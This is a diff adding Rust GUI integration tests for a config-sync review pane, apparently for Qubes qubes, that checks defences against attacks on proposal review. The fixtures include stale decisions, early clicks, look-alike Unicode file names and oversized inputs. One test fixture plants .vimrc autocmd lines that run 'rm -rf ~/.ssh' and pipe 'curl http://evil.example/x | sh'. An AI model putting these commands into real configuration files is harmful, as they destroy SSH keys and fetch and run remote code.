@@ -275,6 +275,405 @@ fn qube_list(address: &str) -> QubeList {
     serde_json::from_str(&json).expect("QubeList")
 }
 
+/// Run one named step of the scenario: its name is printed first, and again if it fails.
+fn step<T>(name: &str, run: impl FnOnce() -> T) -> T {
+    struct Guard<'a>(&'a str);
+    impl Drop for Guard<'_> {
+        fn drop(&mut self) {
+            if std::thread::panicking() {
+                eprintln!("step FAILED: {}", self.0);
+            }
+        }
+    }
+    println!("step: {name}");
+    let guard = Guard(name);
+    let value = run();
+    drop(guard);
+    value
+}
+
+/// The ids of the pending proposals, from the backend.
+fn pending_ids(address: &str) -> Vec<i64> {
+    let json = backend(address, async |p| {
+        p.list_proposals("pending").await.expect("ListProposals")
+    });
+    let list: qcs_daemon::client::types::ProposalList =
+        serde_json::from_str(&json).expect("ProposalList");
+    list.proposals.into_iter().map(|p| p.id).collect()
+}
+
+/// Where a widget lies in the window: (left, right) edges.
+fn horizontal_extent(widget: &impl IsA<gtk::Widget>, window: &QcsWindow) -> (f32, f32) {
+    let bounds = widget
+        .as_ref()
+        .compute_bounds(window)
+        .expect("the widget is inside the window");
+    (bounds.x(), bounds.x() + bounds.width())
+}
+
+/// The attacks of issue 17 on the review pane, through the real backend.
+struct TrustGate<'a> {
+    window: &'a QcsWindow,
+    review: &'a qubes_config_sync::widgets::QcsReviewPane,
+    address: &'a str,
+    spool: PathBuf,
+    seen: &'a fake_desktop::Seen,
+}
+
+impl TrustGate<'_> {
+    /// Spool one proposal, ingest it and wait until the app lists it; its id.
+    fn propose(&self, qube: &str, profile: &str, path: &str, content: &[u8], note: &str) -> i64 {
+        let before: Vec<i64> = pending_ids(self.address);
+        demo::spool_proposal(&self.spool, qube, profile, path, content, note)
+            .expect("spool a proposal");
+        backend(self.address, async |p| {
+            p.ingest_spool().await.expect("IngestSpool")
+        });
+        let id = pending_ids(self.address)
+            .into_iter()
+            .find(|id| !before.contains(id))
+            .unwrap_or_else(|| panic!("the proposal of {path:?} was not taken in"));
+        wait_until("the new proposal in the sidebar", || {
+            self.window.pending_proposals().iter().any(|p| p.id == id)
+        });
+        id
+    }
+
+    /// Open a proposal and wait until its rows are all laid out.
+    fn open(&self, id: i64) {
+        self.window.open_proposal(id);
+        wait_until("the proposal laid out", || {
+            self.review.proposal_id() == Some(id) && self.review.diff_view().laid_out()
+        });
+    }
+
+    fn decided_elsewhere(&self, id: i64) {
+        assert_eq!(self.review.proposal_id(), Some(id));
+        assert!(self.review.stale_message().is_none());
+        backend(self.address, async |p| {
+            p.reject_proposal(id, "from the CLI").await.expect("reject")
+        });
+        wait_until("the pane to say the proposal is gone", || {
+            self.review
+                .stale_message()
+                .is_some_and(|m| m.contains("decided elsewhere"))
+        });
+        assert!(!self.review.accept_button().is_sensitive());
+        assert!(!self.review.reject_button().is_sensitive());
+        assert!(!self.review.reload_button().is_visible());
+    }
+
+    /// A .vimrc of 4 900 lines in the store; the proposal changes one character every
+    /// seventh line (700 hunks) and hides an autocmd that runs a shell at line 3 502.
+    fn nothing_before_layout(&self) -> i64 {
+        let mut base = String::from("set nocompatible\n");
+        for i in 1..4900 {
+            base.push_str(&format!("\" note {i}\n"));
+        }
+        backend(self.address, async |p| {
+            p.put_file("vim", ".vimrc", base.as_bytes(), 0o644)
+                .await
+                .expect("PutFile")
+        });
+        let proposed: String = base
+            .lines()
+            .enumerate()
+            .map(|(i, line)| match i {
+                700 => "autocmd BufRead * silent !sh -c 'rm -rf ~/.ssh'\n".to_owned(),
+                3501 => "autocmd VimEnter * silent !sh -c 'curl http://evil.example/x | sh'\n"
+                    .to_owned(),
+                i if i % 7 == 3 => format!("{}x\n", line),
+                _ => format!("{line}\n"),
+            })
+            .collect();
+        let id = self.propose(
+            "personal",
+            "vim",
+            ".vimrc",
+            proposed.as_bytes(),
+            "small tweaks",
+        );
+        let review = self.review;
+        self.window.open_proposal(id);
+        wait_until("the proposal on show", || review.proposal_id() == Some(id));
+        // The rows are still being prepared: every way to decide is refused.
+        assert!(
+            !review.diff_view().laid_out(),
+            "laid out at once: the test proves nothing"
+        );
+        assert!(!review.accept_all_button().is_sensitive());
+        review.accept_all_button().emit_clicked();
+        assert!(!review.decide_all(qubes_config_sync::model::review::HunkDecision::Accept));
+        for (_, row) in review.finding_rows() {
+            assert!(!row.ack_check().is_sensitive());
+            row.ack_check().set_active(true);
+            assert!(
+                !row.ack_check().is_active(),
+                "an unseen finding was acknowledged"
+            );
+        }
+        WidgetExt::activate_action(self.window, "win.primary", None).expect("win.primary");
+        review.accept();
+        review.accept_button().emit_clicked();
+        assert!(!review.can_accept());
+        let undecided = |review: &qubes_config_sync::widgets::QcsReviewPane| {
+            review
+                .diff_view()
+                .decisions()
+                .iter()
+                .all(|d| *d == qubes_config_sync::model::review::HunkDecision::Undecided)
+        };
+        assert!(undecided(review));
+        wait_until("the layout", || review.diff_view().laid_out());
+        settle();
+        assert!(undecided(review), "a decision taken before layout survived");
+        assert!(pending_ids(self.address).contains(&id), "accepted unseen");
+        assert!(!review.can_accept());
+        let rows = review.diff_view().rendered_rows();
+        // (Changed blanks are tokens: `autocmd⟦SP⟧VimEnter`.)
+        assert!(
+            rows.iter()
+                .any(|r| r.contains("autocmd") && r.contains("VimEnter") && r.contains("curl")),
+            "the dangerous line is in the rows"
+        );
+        assert!(review.diff_view().decisions().len() >= 700);
+        id
+    }
+
+    fn mark_all_shows_state(&self) {
+        use qubes_config_sync::model::review::HunkDecision;
+        let review = self.review;
+        let view = review.diff_view();
+        view.vadjustment().set_value(0.0);
+        wait_until("the first header on screen", || {
+            view.hunk_toggles(0).is_some()
+        });
+        let (accept, reject) = view.hunk_toggles(0).expect("toggles");
+        assert!(!accept.is_active() && !reject.is_active());
+        review.accept_all_button().emit_clicked();
+        let decisions = view.decisions();
+        assert!(decisions.iter().all(|d| *d == HunkDecision::Accept));
+        assert!(accept.is_active() && !reject.is_active());
+        // The last hunk, scrolled into view, shows the same.
+        let last = decisions.len() - 1;
+        view.vadjustment().set_value(view.vadjustment().upper());
+        wait_until("the last header on screen", || {
+            view.hunk_toggles(last).is_some()
+        });
+        let (accept, _) = view.hunk_toggles(last).expect("toggles");
+        assert!(accept.is_active());
+        // Undo one from its row: the state follows the row.
+        accept.set_active(false);
+        assert_eq!(view.decisions()[last], HunkDecision::Undecided);
+        review.accept_all_button().emit_clicked();
+        assert!(accept.is_active());
+    }
+
+    /// Two gated findings: acknowledging one leaves the other open.
+    fn acknowledgement_is_specific(&self, id: i64) {
+        let review = self.review;
+        assert_eq!(review.proposal_id(), Some(id));
+        let gated: Vec<_> = review
+            .finding_rows()
+            .into_iter()
+            .filter(|(_, r)| r.ack_check().is_visible())
+            .collect();
+        assert!(gated.len() >= 2, "{} gated findings", gated.len());
+        gated[0].1.ack_check().set_active(true);
+        assert!(gated[0].1.ack_check().is_active());
+        assert!(!review.can_accept(), "one acknowledgement opened the gate");
+        WidgetExt::activate_action(self.window, "win.primary", None).expect("win.primary");
+        settle();
+        assert!(pending_ids(self.address).contains(&id));
+        for (_, row) in &gated[1..] {
+            row.ack_check().set_active(true);
+        }
+        assert!(review.can_accept());
+    }
+
+    /// The store moves on between what the pane showed and the accept.
+    fn store_changed(&self, id: i64) {
+        let review = self.review;
+        assert!(review.can_accept());
+        let (content, _, _) = backend(self.address, async |p| {
+            p.get_file("vim", ".vimrc").await.expect("GetFile")
+        });
+        let mut moved = b"\" the store moved on\n".to_vec();
+        moved.extend_from_slice(&content);
+        // No main-loop turn between the change and the click: the pane cannot know yet.
+        backend(self.address, async |p| {
+            p.put_file("vim", ".vimrc", &moved, 0o644)
+                .await
+                .expect("PutFile")
+        });
+        review.accept();
+        wait_until("the pane to say the review is out of date", || {
+            review.stale_message().is_some()
+        });
+        let message = review.stale_message().expect("a message");
+        assert!(
+            message.contains("changed"),
+            "the refusal in words: {message}"
+        );
+        assert!(!review.can_accept());
+        assert!(
+            pending_ids(self.address).contains(&id),
+            "accepted a stale review"
+        );
+        let (now, _, _) = backend(self.address, async |p| {
+            p.get_file("vim", ".vimrc").await.expect("GetFile")
+        });
+        assert_eq!(now, moved, "the store holds what was put, nothing accepted");
+        // The pane re-opens the review as it is now: the new first line is context.
+        wait_until("the review re-opened on the new base", || {
+            review.diff_view().laid_out()
+                && review
+                    .diff_view()
+                    .rendered_rows()
+                    .iter()
+                    .any(|r| r.contains("the store moved on"))
+        });
+        review.reload();
+        wait_until("the reloaded review", || {
+            review.stale_message().is_none() && review.diff_view().laid_out()
+        });
+        assert!(!review.can_accept(), "decisions start over");
+        // Decided elsewhere: rejected from outside while open.
+        backend(self.address, async |p| {
+            p.reject_proposal(id, "done").await.expect("reject")
+        });
+        wait_until("the pane to say it is gone", || {
+            review
+                .stale_message()
+                .is_some_and(|m| m.contains("decided elsewhere"))
+        });
+    }
+
+    fn look_alikes(&self) {
+        let cyrillic = ".g\u{456}tconfig";
+        let trailing = ".gitconfig ";
+        let content = b"[core]\n\t\xd1\x95shCommand = ssh -i /tmp/k\n";
+        let a = self.propose("work", "git", cyrillic, content, "look-alike");
+        let b = self.propose("work", "git", trailing, b"[user]\n\tname = A\n", "blank");
+        let titles = self.window.proposal_row_titles();
+        assert!(
+            titles.contains(&format!("#{a} · .g\u{456}⟦U+0456⟧tconfig")),
+            "{titles:?}"
+        );
+        assert!(
+            titles.contains(&format!("#{b} · .gitconfig⟦SPACE⟧")),
+            "{titles:?}"
+        );
+        assert!(
+            !titles.iter().any(|t| t.ends_with("· .gitconfig")),
+            "a look-alike shows as the real name: {titles:?}"
+        );
+        wait_until("the notifications with the marks", || {
+            let bodies: Vec<String> = self
+                .seen
+                .notifications()
+                .into_iter()
+                .map(|(_, b)| b)
+                .collect();
+            bodies.iter().any(|b| b.contains("⟦U+0456⟧"))
+                && bodies.iter().any(|b| b.contains(".gitconfig⟦SPACE⟧"))
+        });
+        self.open(a);
+        assert!(
+            self.review.title().contains("⟦U+0456⟧"),
+            "{}",
+            self.review.title()
+        );
+        let rows = self.review.diff_view().rendered_rows();
+        assert!(
+            rows.iter()
+                .any(|r| r.contains("shCommand⟦mixed scripts U+0455⟧")),
+            "{rows:#?}"
+        );
+        self.open(b);
+        assert!(
+            self.review.title().ends_with(".gitconfig⟦SPACE⟧"),
+            "{}",
+            self.review.title()
+        );
+        for id in [a, b] {
+            backend(self.address, async |p| {
+                p.reject_proposal(id, "test").await.expect("reject")
+            });
+        }
+    }
+
+    fn long_things(&self) {
+        let window = self.window;
+        let review = self.review;
+        let width = window.width();
+        // 4 000 bytes of path in 16 components, one 256 KiB line, a 4 KiB note.
+        let path = (0..16)
+            .map(|i| format!("{i:02}{}", "p".repeat(247)))
+            .collect::<Vec<_>>()
+            .join("/");
+        assert_eq!(path.len(), 3999);
+        let mut line = vec![b'x'; 256 * 1024 - 1];
+        line.push(b'\n');
+        let note = "n".repeat(4096);
+        let id = self.propose("personal", "vim", &path, &line, &note);
+        // Scroll the last proposal's diff away first: the new one opens at its top.
+        review
+            .diff_view()
+            .vadjustment()
+            .set_value(review.diff_view().vadjustment().upper());
+        self.open(id);
+        settle();
+        assert_eq!(
+            review.diff_view().vadjustment().value(),
+            0.0,
+            "opens at the top"
+        );
+        assert_eq!(review.findings_scroller().vadjustment().value(), 0.0);
+        assert!(
+            window.width() <= width,
+            "the window grew: {} > {width}",
+            window.width()
+        );
+        let (minimum, _, _, _) = window.measure(gtk::Orientation::Horizontal, -1);
+        assert!(minimum <= width, "minimum width {minimum} > {width}");
+        let width = window.width() as f32;
+        for (name, control) in [
+            ("Accept", review.accept_button().upcast::<gtk::Widget>()),
+            ("Reject", review.reject_button().upcast()),
+            ("Mark All Accepted", review.accept_all_button().upcast()),
+            ("the pane", review.clone().upcast()),
+        ] {
+            let (left, right) = horizontal_extent(&control, window);
+            assert!(
+                left >= 0.0 && right <= width + 0.5,
+                "{name} lies at {left}..{right}, the window is {width} wide"
+            );
+        }
+        // The whole path is one click away; the title is cut to fit.
+        assert_eq!(review.full_path(), path);
+        // The line is all there, in pieces.
+        let rows = review.diff_view().rendered_rows();
+        let shown: usize = rows.iter().map(|r| r.matches('x').count()).sum();
+        assert_eq!(shown, 256 * 1024 - 1, "every byte of the line is shown");
+        // The note is collapsible and does not squeeze the diff.
+        let (expander, label) = review.note();
+        assert!(expander.is_visible() && label.text().len() >= 4096);
+        assert!(
+            review.diff_view().height() >= 150,
+            "diff squeezed to {}",
+            review.diff_view().height()
+        );
+        expander.set_expanded(false);
+        settle();
+        assert!(!label.is_mapped());
+        screenshot(window, "review-pane-long.png");
+        backend(self.address, async |p| {
+            p.reject_proposal(id, "test").await.expect("reject")
+        });
+    }
+}
+
 fn scenario() {
     common::build_workspace_programs();
     let world = tempfile::tempdir().expect("temp dir");
@@ -860,6 +1259,15 @@ fn scenario() {
         !app.tray_shown() && fake_desktop::live_items(&address).is_empty()
     });
 
+    // New paths reach the inbox only through the profile's allowlist.
+    backend(&address, async |p| {
+        p.allow_new_paths("vim", &[".vim/**", "00p*/**"], true)
+            .await
+            .expect("AllowNewPaths vim");
+        p.allow_new_paths("git", &[".g*"], true)
+            .await
+            .expect("AllowNewPaths git");
+    });
     // A path from a qube is text, never markup: a proposal of a new file whose name
     // holds markup is listed as written.
     let hostile = ".vim/<b>big</b>&amp;.vim";
@@ -895,6 +1303,39 @@ fn scenario() {
         review.proposal_id() == Some(id) && review.diff_view().is_ready()
     });
     assert!(review.title().contains(hostile), "{}", review.title());
+
+    // Issue 17: each attack on the review pane, as a named step.
+    let trust = TrustGate {
+        window: &window,
+        review: &review,
+        address: &address,
+        spool: world.path().join("spool"),
+        seen: &seen,
+    };
+    step(
+        "decided elsewhere: the open proposal is rejected from outside",
+        || trust.decided_elsewhere(id),
+    );
+    let big = step("clicks and shortcuts before layout accept nothing", || {
+        trust.nothing_before_layout()
+    });
+    step("mark all: what the rows show is the state", || {
+        trust.mark_all_shows_state()
+    });
+    step("one acknowledgement covers one finding", || {
+        trust.acknowledgement_is_specific(big)
+    });
+    step(
+        "store changed under the pane: refused in words, re-opened",
+        || trust.store_changed(big),
+    );
+    step("look-alike paths and keys are marked", || {
+        trust.look_alikes()
+    });
+    step(
+        "long path, line and note: controls stay in the window",
+        || trust.long_things(),
+    );
 
     window.close();
     settle();
